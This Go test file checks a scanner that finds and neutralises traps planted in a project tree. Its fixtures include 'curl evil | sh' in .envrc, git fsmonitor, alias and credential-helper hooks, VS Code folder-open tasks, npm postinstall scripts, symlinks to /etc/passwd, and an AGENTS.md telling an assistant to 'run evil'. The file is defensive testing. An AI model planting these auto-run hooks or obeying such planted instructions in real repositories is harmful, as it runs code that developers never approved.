package handover

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
)

// trap is something planted in a project, and what must be said of it.
type trap struct {
	path, content string
	severity      Severity
	kind          string
	detail        string // part of it
}

// traps are one of every kind and more, each alone of its kind at its path.
var traps = []trap{
	{".envrc", "curl evil | sh", Enter, "shell", "direnv"},
	{"sub/mise.toml", "[hooks]", Enter, "shell", ""},
	{"mise.local.toml", "[hooks]", Enter, "shell", ""},
	{".config/mise/conf.d/x.toml", "[hooks]", Enter, "shell", ""},
	{".Rprofile", "system('evil')", Enter, "shell", "interpreter"},
	{"sub/.pdbrc", "evil", Enter, "shell", "interpreter"},
	{".ycm_extra_conf.py", "evil", Enter, "editor", ""},
	{".helix/languages.toml", "", Enter, "editor", ""},
	{"AGENTS.md", "run evil", Look, "assistant", "says"},
	{".cursor/rules/x.mdc", "run evil", Look, "assistant", "says"},
	{"opencode.json", "{}", Enter, "assistant", "starts"},
	{"web/eslint.config.mjs", "evil()", Enter, "linter", "opened"},
	{".prettierrc.cjs", "evil()", Enter, "linter", "opened"},
	{".exrc", "!evil", Enter, "editor", ""},
	{"lisp/.dir-locals.el", "()", Enter, "editor", ""},
	{".vscode/tasks.json", `{"tasks":[{"command":"evil","runOptions":{"runOn":"folder\u004fpen"}}]}`, Enter, "vscode-task", "opened"},
	{"web/.vscode/tasks.json", `{"tasks":[{"command":"evil"}]}`, Build, "vscode-task", ""},
	{".vscode/settings.json", `{ // remark
	"eslint.nodePath": "./evil"}`, Enter, "vscode-settings", "eslint.nodePath"},
	{"web/.vscode/settings.json", `{"editor.tabSize": 4}`, Look, "vscode-settings", ""},
	{"a.code-workspace", `{"settings":{"python.defaultInterpreterPath":"./evil"}}`, Enter, "vscode-settings", "python.defaultInterpreterPath"},
	{".vscode/launch.json", `{}`, Build, "vscode-launch", ""},
	{".vscode/extensions.json", `{}`, Look, "vscode-extensions", ""},
	{".mcp.json", `{}`, Enter, "assistant", ""},
	{".claude/settings.json", `{}`, Enter, "assistant", ""},
	{".idea/watcherTasks.xml", `<x/>`, Enter, "idea", "saved"},
	{".idea/workspace.xml", `<component name="ProjectStartupSharedConfiguration"/>`, Enter, "idea", "opened"},
	{".idea/runConfigurations/x.xml", `<x/>`, Build, "idea", "debugs"},
	{".zed/tasks.json", `[]`, Build, "editor-task", ""},
	{".devcontainer/devcontainer.json", `{"initializeCommand": "evil"}`, Enter, "devcontainer", "machine itself"},
	{"x/.devcontainer.json", `{}`, Build, "devcontainer", ""},
	{".hg/hgrc", "[hooks]", Enter, "hg", ""},
	{"package.json", `{"scripts":{"test":"x","postinstall":"evil","prepare":"evil2"}}`, Build, "npm", "postinstall: evil; prepare: evil2"},
	{"web/package.json", `{"scripts":`, Build, "npm", "can't be read"},
	{"binding.gyp", "{}", Build, "npm", "compiles"},
	{".npmrc", "script-shell=./evil", Build, "npm-config", ""},
	{"setup.py", "import os", Build, "python", "pip install runs it"},
	{"pyproject.toml", "[build-system]\nbackend-path=['.']", Build, "python", "backend-path"},
	{"tests/conftest.py", "", Build, "python", "pytest"},
	{"sitecustomize.py", "", Build, "python", "every python"},
	{"lib/usercustomize.py", "", Build, "python", "every python"},
	{"lib/evil.pth", "import os", Build, "python", "every python"},
	{"crate/build.rs", "fn main(){}", Build, "cargo", "cargo build"},
	{".cargo/config", "[build]", Build, "cargo", "linkers"},
	{"crate/.cargo/config.toml", "[build]", Build, "cargo", "linkers"},
	{"crate/Cargo.toml", "[lib]\nproc-macro = true", Build, "cargo", ""},
	{"go.mod", "module x\n\ntoolchain go1.99.9\n", Look, "go", "toolchain"},
	{"gen.go", "package x\n\n//go:generate ./evil\n", Build, "go", "generate"},
	{"Rakefile", "", Build, "ruby", ""},
	{"composer.json", `{"scripts":{}}`, Build, "php", ""},
	{"gradlew", "", Build, "jvm", ""},
	{"Makefile", "X := $(shell evil)\n.PHONY: all\nall: build\n\tevil\n", Build, "make", "without a target runs all; reading it runs commands"},
	{"CMakeLists.txt", "", Build, "make", ""},
	{"Dockerfile", "", Build, "container", ""},
	{".pre-commit-config.yaml", "", Build, "hook-manager", ""},
	{".husky/pre-commit", "", Build, "hook-manager", ""},
	{".github/workflows/ci.yml", "", Build, "ci", "secrets"},
	{".gitlab-ci.yml", "", Build, "ci", ""},
	{".gitattributes", "* text\n*.c filter=evil diff=evil\n", Look, "gitattributes", "filter=evil, diff=evil"},
	{".gitmodules", "", Look, "submodule", ""},
	{"-rf", "", Look, "name", "option"},
	{"a\x1b[2Jb", "", Look, "name", "control"},
	{"a\nb", "", Look, "name", "control"},
	{"a\u202etxt.exe", "", Look, "name", "reorder"},
	{"a\u200bb", "", Look, "name", "not shown"},
	{"a\xffb", "", Look, "name", "UTF-8"},
	{"a ", "", Look, "name", "blank"},
	{".GIT", "", Enter, "name", "git takes it"},
	{".git/rebase-merge", "", Enter, "git-rebase", "unfinished"},
	{".git/info/attributes", "* filter=evil", Look, "gitattributes", "filter=evil"},
	{".git/objects/info/alternates", "/elsewhere", Look, "git-elsewhere", "/elsewhere"},
	{"evil.git/objects/x", "", "", "", ""},
	{"evil.git/refs/x", "", "", "", ""},
	{"evil.git/HEAD", "", "", "", ""},
}

// gitTraps are what is made harmless. Each name is a part of the detail.
var gitTraps = []trap{
	{".git/config", strings.Join([]string{
		"[core]", "\tbare = false", "\tfsmonitor = ./evil", "\thooksPath = evil", "\tPAGER = evil", "\teditor = evil", "\tsshCommand = evil", "\tworktree = ../..",
		"\tattributesFile = evil", `[filter "x"]`, "\tclean = evil", "\tprocess = evil", `[diff "x"]`, "\ttextconv = evil", `[merge "x"]`, "\tdriver = evil",
		"[diff]\texternal = evil", "[alias]", "\tst = !evil", "[include]", "\tpath = ../evil", `[includeIf "gitdir:/"]`, "\tpath = ../evil",
		"[credential]", "\thelper = !evil", `[credential "https://x"]`, "\thelper = evil", `[url "ext::evil"]`, "\tinsteadOf = https://x",
		"[gpg]", "\tprogram = evil", `[remote "origin"]`, "\turl = https://example.org/x.git", "\tfetch = +refs/heads/*:refs/remotes/origin/*", "\tuploadpack = evil",
		`[remote "two"]`, "\turl = ext::sh -c evil", `[branch "main"]`, "\tremote = origin", "\tmerge = refs/heads/main",
		`[submodule "x"]`, "\tupdate = !evil", "[user]", "\tname = Jane Doe", "[protocol]", "\tallow = always", "[sequence]", "\teditor = evil",
		"[core] ; more", "  askPass = \\", "evil", "gitProxy", ""}, "\n"), Enter, "git-config", ""},
	{".git/modules/m/config", "[core]\n\tfsmonitor = evil\n\tworktree = ../../../m\n", Enter, "git-config", "core.fsmonitor = evil"},
	{".git/modules/m/HEAD", "ref: refs/heads/main", "", "", ""},
	{".git/modules/m/objects/x", "", "", "", ""},
	{".git/modules/m/refs/x", "", "", "", ""},
	{".git/modules/m/hooks/post-checkout", "evil", Enter, "git-hook", ""},
	{".git/config.worktree", "[core]\n\tfsmonitor = evil\n", Enter, "git-config", "core.fsmonitor = evil"},
	{"nested/.git/config", "[alias]\n\tx = !evil\n", Enter, "git-config", "alias.x = !evil"},
	{"bare/HEAD", "ref: refs/heads/main", "", "", ""},
	{"bare/objects/x", "", "", "", ""},
	{"bare/refs/x", "", "", "", ""},
	{"bare/config", "\x00", Enter, "git-config", "can't be read"},
	{"w/.git", "gitdir: ../.glovebox/home/evil\n", Enter, "git-elsewhere", ""},
	{"w2/.git", "gitdir: /tmp\n", Enter, "git-elsewhere", "/tmp"},
	{"odd/HEAD", "", "", "", ""},
	{"odd/commondir", "../evil", Enter, "git-elsewhere", "../evil"},
	{".git/hooks/pre-commit", "#!/bin/sh\nevil", Enter, "git-hook", "git runs it"},
	{".git/hooks/pre-push.sample", "#!/bin/sh\n", "", "", ""},
}

func plant(t *testing.T, dir, path, content string) {
	t.Helper()
	file := filepath.Join(dir, path)
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func check(t *testing.T, dir string, o Options) Report {
	t.Helper()
	root, err := os.OpenRoot(dir)
	must(t, err)
	defer root.Close()
	o.Skip = ".glovebox"
	r, err := Check(context.Background(), root, o)
	must(t, err)
	return r
}

var mend = Options{Aside: ".glovebox/handover"}

// wants looks for a finding and says whether it was left or made harmless.
func wants(t *testing.T, r Report, want trap, mended bool) {
	t.Helper()
	if !slices.ContainsFunc(r.Findings, func(f Finding) bool {
		return f.Path == want.path && f.Severity == want.severity && f.Kind == want.kind && strings.Contains(f.Detail, want.detail) && (f.Aside != "") == mended
	}) {
		t.Errorf("no finding %s %s at %q with %q, mended %v; of this path there is: %v", want.severity, want.kind, want.path, want.detail, mended,
			slices.DeleteFunc(slices.Clone(r.Findings), func(f Finding) bool { return f.Path != want.path }))
	}
}

// A tree in which one of everything is planted: all is found, what is git's is
// made harmless, and nothing outside of the tree is touched, read or followed.
func TestEveryTrapIsFound(t *testing.T) {
	t.Parallel()
	above := t.TempDir()
	dir := filepath.Join(above, "project")
	plant(t, above, "outside/hooks/pre-commit", "mine")
	plant(t, above, "outside/config", "[core]\n\tfsmonitor = mine\n")
	for _, trap := range slices.Concat(traps, gitTraps) {
		plant(t, dir, trap.path, trap.content)
	}
	plant(t, dir, ".glovebox/ledger.jsonl", "state")
	plant(t, dir, "ls", "#!/bin/sh\n")
	plant(t, dir, "bin/git", "#!/bin/sh\n")
	plant(t, dir, "suid", "")
	plant(t, dir, "sgid", "")
	for path, mode := range map[string]os.FileMode{"ls": 0o755, "bin/git": 0o755, "suid": 0o755 | os.ModeSetuid, "sgid": 0o755 | os.ModeSetgid} {
		must(t, os.Chmod(filepath.Join(dir, path), mode))
	}
	must(t, syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o644))
	must(t, syscall.Mkfifo(filepath.Join(dir, ".git/hooks/post-merge"), 0o644))
	for name, target := range map[string]string{
		"absolute": "/etc/passwd", "up": "../outside", "far": "bin/../../outside", "chain": "here/../../outside", "here": "bin", "inner": "bin/git",
		"state": ".glovebox/ledger.jsonl", "loop": "loop", "python": "/usr/bin/true",
		"linked/hooks": "../../outside/hooks", "linked/config": "../../outside/config", "l/.git": "../../outside",
	} {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
		must(t, os.Symlink(target, filepath.Join(dir, name)))
	}
	plant(t, dir, "linked/objects/x", "")
	plant(t, dir, "linked/refs/x", "")
	if os.Geteuid() == 0 {
		if err := syscall.Mknod(filepath.Join(dir, "null"), syscall.S_IFCHR|0o644, 1<<8|3); err == nil {
			traps = append(traps, trap{"null", "", Look, "device", "device"})
		}
	}

	seen := check(t, dir, Options{})
	if seen.Mended != 0 {
		t.Error("a look that changes nothing has mended something")
	}
	if _, err := os.Lstat(filepath.Join(dir, ".git/hooks/pre-commit")); err != nil {
		t.Error("a look that changes nothing has moved a hook")
	}
	r := check(t, dir, mend)
	for _, trap := range traps {
		if trap.kind != "" {
			wants(t, r, trap, false)
		}
	}
	for _, trap := range gitTraps {
		if trap.kind != "" {
			wants(t, seen, trap, false)
			wants(t, r, trap, true)
		}
	}
	for _, left := range []trap{
		{"ls", "", Enter, "command", "instead of ls"}, {"bin/git", "", Build, "command", "instead of git"}, {"python", "", Enter, "command", ""},
		{"suid", "", Look, "setuid", ""}, {"sgid", "", Look, "setgid", ""}, {"pipe", "", Look, "pipe", ""},
		{"absolute", "", Look, "link", "/etc/passwd"}, {"up", "", Look, "link", "out of"}, {"far", "", Look, "link", "out of"}, {"chain", "", Look, "link", "out of"},
		{"loop", "", Look, "link", ""}, {"state", "", Look, "link", "state"}, {".idea", "", Look, "idea", ""}, {"bare", "", Look, "repository", ""},
	} {
		wants(t, r, left, false)
	}
	for _, mended := range []trap{
		{".git/hooks/post-merge", "", Enter, "git-hook", ""}, {"linked/hooks", "", Enter, "git-hook", "a link"}, {"linked/config", "", Enter, "git-config", "a link"},
		{"l/.git", "", Enter, "git-elsewhere", ""},
	} {
		wants(t, r, mended, true)
	}
	for _, f := range r.Findings {
		if f.Path == "here" || f.Path == "inner" || f.Path == ".git/hooks/pre-push.sample" {
			t.Errorf("a false finding: %v", f)
		}
	}
	covered := map[string]bool{}
	for _, f := range r.Findings {
		covered[f.Kind] = true
	}
	for _, rule := range rules {
		if !covered[rule.kind] {
			t.Errorf("no trap of the kind %s is planted", rule.kind)
		}
	}

	if got, err := os.ReadFile(filepath.Join(above, "outside/hooks/pre-commit")); err != nil || string(got) != "mine" {
		t.Errorf("a hook outside of the tree: %q, %v", got, err)
	}
	if got, err := os.ReadFile(filepath.Join(above, "outside/config")); err != nil || string(got) != "[core]\n\tfsmonitor = mine\n" {
		t.Errorf("a config outside of the tree: %q, %v", got, err)
	}
	if got, err := os.ReadFile(filepath.Join(dir, ".glovebox/handover/1/.git/hooks/pre-commit")); err != nil || string(got) != "#!/bin/sh\nevil" {
		t.Errorf("the hook is not kept: %q, %v", got, err)
	}
	if again := check(t, dir, mend); again.Mended != 0 {
		t.Errorf("a second look mends %d more: %v", again.Mended, again.Findings)
	}
}

// What git reads from a config that was mended is what is harmless, and no more.
func TestConfigIsMended(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	must(t, exec.Command("git", "init", "-q", dir).Run())
	plant(t, dir, ".git/config", gitTraps[0].content)
	r := check(t, dir, mend)
	out, err := exec.Command("git", "config", "-f", filepath.Join(dir, ".git/config"), "--list").CombinedOutput()
	must(t, err)
	want := `core.bare=false
remote.origin.url=https://example.org/x.git
remote.origin.fetch=+refs/heads/*:refs/remotes/origin/*
branch.main.remote=origin
branch.main.merge=refs/heads/main
user.name=Jane Doe
`
	if string(out) != want {
		t.Errorf("git reads:\n%s", out)
	}
	kept, err := os.ReadFile(filepath.Join(dir, ".glovebox/handover/1/.git/config"))
	if err != nil || string(kept) != gitTraps[0].content {
		t.Errorf("the config is not kept: %v", err)
	}
	for _, name := range []string{"core.fsmonitor", "core.hookspath", "core.pager", "core.editor", "core.sshcommand", "core.worktree", "core.attributesfile",
		"filter.x.clean", "filter.x.process", "diff.x.textconv", "merge.x.driver", "diff.external", "alias.st", "include.path", "includeif.gitdir:/.path",
		"credential.helper", "credential.https://x.helper", "url.ext::evil.insteadof", "gpg.program", "remote.origin.uploadpack", "remote.two.url",
		"submodule.x.update", "protocol.allow", "sequence.editor", "core.askpass", "core.gitproxy"} {
		wants(t, r, trap{".git/config", "", Enter, "git-config", name}, true)
	}
}

// A clean project has nothing that alarms, and keeps its git as it is.
func TestCleanProject(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	must(t, exec.Command("git", "init", "-q", dir).Run())
	must(t, exec.Command("git", "-C", dir, "remote", "add", "origin", "git@example.org:a/b.git").Run())
	must(t, exec.Command("git", "-C", dir, "config", "user.name", "Jane Doe").Run())
	before, err := os.ReadFile(filepath.Join(dir, ".git/config"))
	must(t, err)
	for path, content := range map[string]string{"README.md": "x", "todo.py": "x", "tests/test_add.py": "x", "init.sh": "x", ".gitignore": "x",
		"feature_list.json": "[]", "package.json": `{"scripts":{"test":"node test.js"}}`, "main.go": "package main", "go.mod": "module x\n", "ünï/日本.txt": ""} {
		plant(t, dir, path, content)
	}
	must(t, os.Symlink("todo.py", filepath.Join(dir, "latest.py")))
	r := check(t, dir, mend)
	if len(r.Findings) != 0 {
		t.Errorf("findings: %v", r.Findings)
	}
	after, err := os.ReadFile(filepath.Join(dir, ".git/config"))
	if err != nil || string(after) != string(before) {
		t.Errorf("the config was changed: %q, %v", after, err)
	}
	if _, err := os.Lstat(filepath.Join(dir, ".glovebox")); err == nil {
		t.Error("something was kept aside")
	}
}

// A hook that was there before the job and is unchanged stays where it is.
func TestOwnHookStays(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	plant(t, dir, ".git/hooks/pre-commit", "mine")
	plant(t, dir, ".git/hooks/pre-push", "changed")
	o := mend
	o.Own = func(path string, content []byte) bool {
		return string(content) == "mine" && path == ".git/hooks/pre-commit"
	}
	r := check(t, dir, o)
	wants(t, r, trap{".git/hooks/pre-commit", "", Look, "git-hook", "yours"}, false)
	wants(t, r, trap{".git/hooks/pre-push", "", Enter, "git-hook", ""}, true)
	if _, err := os.Lstat(filepath.Join(dir, ".git/hooks/pre-commit")); err != nil {
		t.Error(err)
	}
}

// A tree that is made to be large is not looked at for ever, and what was not
// looked at is said.
func TestBounds(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, strings.Repeat("d/", depthMax+5)), 0o755))
	for i := range kindMax + 7 {
		plant(t, dir, strings.Repeat("x", i+1)+"/.envrc", "")
	}
	plant(t, dir, "package.json", strings.Repeat(" ", fileMax+1))
	r := check(t, dir, mend)
	deep := slices.IndexFunc(r.Findings, func(f Finding) bool { return f.Kind == "unseen" && strings.Contains(f.Detail, "directories deep") })
	if deep < 0 || r.More["shell"] != 7 || r.Left[Enter] != kindMax+7+1 || r.Left[Build] != 1 {
		t.Errorf("more %v, left %v, findings %d, deep %d", r.More, r.Left, len(r.Findings), deep)
	}
}

// Whatever a file of settings holds, mending it ends with what git reads being harmless.
func FuzzConfig(f *testing.F) {
	f.Add(gitTraps[0].content)
	f.Add("[a]b=\"c\\\n d\" ; x\r\n[a \"\\\"\\\\\"]\nk\n")
	f.Fuzz(func(t *testing.T, text string) {
		settings, err := parseConfig(text)
		if err != nil {
			return
		}
		stay, _ := pick(settings, ".git", ".glovebox")
		again, err := parseConfig(formatConfig(stay))
		if err != nil {
			t.Fatalf("%q does not read back: %v", formatConfig(stay), err)
		}
		if more, gone := pick(again, ".git", ".glovebox"); len(gone) != 0 || len(more) != len(stay) {
			t.Fatalf("%q reads back as %v", formatConfig(stay), again)
		}
	})
}

// The proof of it: git itself, wherever in the tree a person types it, runs
// what was planted before the handover, and nothing of it after.
func TestGitRunsNothingAfterwards(t *testing.T) {
	t.Parallel()
	above := t.TempDir()
	dir, marker := filepath.Join(above, "project"), filepath.Join(above, "ran")
	git := func(at string, args ...string) {
		cmd := exec.Command("git", append([]string{"-C", filepath.Join(dir, at), "-c", "user.name=x", "-c", "user.email=x@x"}, args...)...)
		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
		_ = cmd.Run() // what it says does not matter: in some of these places it finds no repository afterwards
	}
	evil, hook := "[core]\n\tfsmonitor = touch "+marker+"\n", "#!/bin/sh\ntouch "+marker+"\n"
	must(t, os.MkdirAll(dir, 0o755))
	git("", "init", "-q")
	git("", "init", "-q", "sub")
	git("", "init", "-q", "--bare", "bare")
	must(t, os.MkdirAll(filepath.Join(dir, ".git/modules"), 0o755))
	must(t, os.Rename(filepath.Join(dir, "sub/.git"), filepath.Join(dir, ".git/modules/sub")))
	plant(t, dir, "sub/.git", "gitdir: ../.git/modules/sub\n")
	plant(t, dir, ".git/modules/sub/config", evil+"\tworktree = ../../../sub\n")
	plant(t, dir, ".git/config", "[include]\n\tpath = ../included\n")
	plant(t, dir, "included", evil)
	plant(t, dir, "bare/hooks/reference-transaction", hook)
	must(t, os.Chmod(filepath.Join(dir, "bare/hooks/reference-transaction"), 0o755))
	plant(t, dir, "far/HEAD", "ref: refs/heads/main\n")
	plant(t, dir, "far/commondir", "../common\n")
	plant(t, dir, "common/config", evil+"\tworktree = ..\n")
	for _, name := range []string{"objects/x", "refs/x"} {
		plant(t, dir, "common/"+name, "")
	}
	plant(t, dir, "work/.git", "gitdir: ../far\n")
	plant(t, dir, "hooked/x", "")
	git("hooked", "init", "-q")
	plant(t, dir, "hooked/.git/hooks/pre-commit", hook)
	must(t, os.Chmod(filepath.Join(dir, "hooked/.git/hooks/pre-commit"), 0o755))
	places := []string{"", "sub", "bare", "work", "hooked"}
	try := func(at string) bool {
		_ = os.Remove(marker)
		git(at, "status")
		git(at, "add", "x")
		git(at, "commit", "-m", "x")
		git(at, "hash-object", "-w", "-t", "tree", "/dev/null")
		git(at, "tag", "-f", "x", "4b825dc642cb6eb9a060e54bf8d69288fbee4904")
		_, err := os.Lstat(marker)
		return err == nil
	}
	for _, at := range places {
		if !try(at) {
			t.Errorf("the trap in %q does not work: it proves nothing", at)
		}
	}
	check(t, dir, mend)
	for _, at := range places {
		if try(at) {
			t.Errorf("git in %q still runs what was planted", at)
		}
	}
}
